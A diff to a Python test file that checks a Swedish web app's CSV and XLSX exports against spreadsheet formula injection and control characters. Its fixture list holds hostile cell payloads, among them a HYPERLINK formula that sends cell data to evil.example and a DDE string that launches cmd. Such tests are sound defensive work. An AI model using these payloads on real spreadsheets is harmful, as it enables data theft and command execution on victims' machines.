@@ -5,6 +5,7 @@ import io
 from datetime import date
 
 import openpyxl
+import pytest
 
 PARTIAL = {"HX-Request": "true", "HX-Request-Type": "partial"}
 
@@ -119,3 +120,43 @@ def test_title_sort_is_swedish(client, auth, people, make_challenge):
     html = _titles(client, "?sort=title")
     positions = [html.index(t) for t in ["Ale behov", "Zink", "Åtgärd", "Äldreomsorg", "Örebro behov"]]
     assert positions == sorted(positions)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1;"x")',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+46 8 123",
+    "-2+3",
+    "\tTabb först",
+]
+
+
+@pytest.mark.parametrize("title", FORMULAS)
+def test_exports_never_hand_a_spreadsheet_a_formula(client, auth, people, make_challenge, title):
+    make_challenge(title=title, annual_volume_sek=1_250_000)
+    auth.login("facilitator@example.org")
+    rows = list(csv.reader(io.StringIO(client.get("/utmaningar/export.csv").get_data(as_text=True)), delimiter=";"))
+    assert rows[1][1] == "'" + title and rows[1][8] == "1250000"
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/utmaningar/export.xlsx").data))["Utmaningar"]
+    title_cell, volume_cell = sheet.cell(row=2, column=2), sheet.cell(row=2, column=9)
+    assert title_cell.data_type == "s" and title_cell.value == "'" + title  # text, never a formula
+    assert volume_cell.value == 1_250_000  # numbers stay numbers
+
+
+def test_a_control_character_in_a_title_does_not_break_the_workbook(client, auth, people, make_challenge):
+    make_challenge(title="Skolskjuts \x1b[31m med ESC")
+    auth.login("facilitator@example.org")
+    response = client.get("/utmaningar/export.xlsx")
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.data))["Utmaningar"]
+    assert sheet.cell(row=2, column=2).value == "Skolskjuts [31m med ESC"
+
+
+def test_safe_cells_keep_numbers_and_dates_typed():
+    from datetime import datetime
+
+    from blueprints.core.downloads import safe_cell
+
+    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
+    assert safe_cell(datetime(2026, 9, 8)) == datetime(2026, 9, 8)
+    assert safe_cell("-28,6") == "-28,6" and safe_cell("-2+3") == "'-2+3" and safe_cell("Skolmat") == "Skolmat" and safe_cell("a\x00b\x1bc") == "abc"
